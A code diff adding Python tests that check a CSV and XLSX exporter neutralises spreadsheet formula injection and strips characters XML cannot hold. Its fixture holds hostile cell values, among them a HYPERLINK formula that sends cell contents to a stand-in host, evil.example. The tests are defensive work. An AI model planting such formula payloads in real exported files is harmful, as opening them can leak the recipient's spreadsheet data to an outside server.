@@ -52,3 +52,28 @@ def test_record_export_appends_an_audit_entry(session: Session) -> None:
     session.commit()
     (entry,) = audit.recent(session, action="export.indicators")
     assert (entry.actor, entry.role, entry.detail) == ("li", "analyst", "?code=aqi")
+
+
+HOSTILE = pd.DataFrame({
+    "地址": ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "思明路1号"],
+    "数量": [1, -2, 3, 4, 5, 6, 7],
+})  # fmt: skip
+
+
+def test_csv_neutralises_text_that_a_spreadsheet_would_run_as_a_formula() -> None:
+    frame = pd.read_csv(io.BytesIO(to_csv(HOSTILE)), encoding="utf-8-sig", keep_default_na=False)
+    assert all(value.startswith("'") for value in frame["地址"][:6]), list(frame["地址"])
+    assert frame["地址"][6] == "思明路1号" and list(frame["数量"]) == [1, -2, 3, 4, 5, 6, 7]  # numbers stay numbers
+
+
+def test_xlsx_writes_formula_like_text_as_text() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(HOSTILE, "events")))
+    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
+    assert [cell.data_type for cell in cells] == ["s"] * 7
+    assert cells[0].value == HOSTILE["地址"][0]
+    assert book.active["B3"].value == -2 and book.active["B3"].data_type == "n"
+
+
+def test_xlsx_drops_characters_xml_cannot_hold_instead_of_failing() -> None:
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(pd.DataFrame({"标题": ["bell\x07 and nul\x00"]}), "t")))
+    assert book.active["A2"].value == "bell and nul"
